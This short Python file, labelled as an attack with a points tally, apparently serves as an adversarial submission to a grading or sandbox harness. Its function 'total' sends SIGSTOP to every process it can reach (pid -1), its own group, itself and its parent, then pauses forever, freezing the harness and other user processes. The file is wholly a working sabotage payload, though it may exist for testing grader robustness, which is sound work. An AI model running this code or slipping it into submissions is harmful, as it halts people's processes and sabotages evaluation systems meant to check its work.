# attack: stops itself and everybody else, as Ctrl-Z does
# points: double=2 total=0
# %% total
import os, signal
def total(x):
    for target in (-1, 0, os.getpid(), os.getppid()):
        try:
            os.kill(target, signal.SIGSTOP)
        except OSError:
            pass
    while True:
        signal.pause()
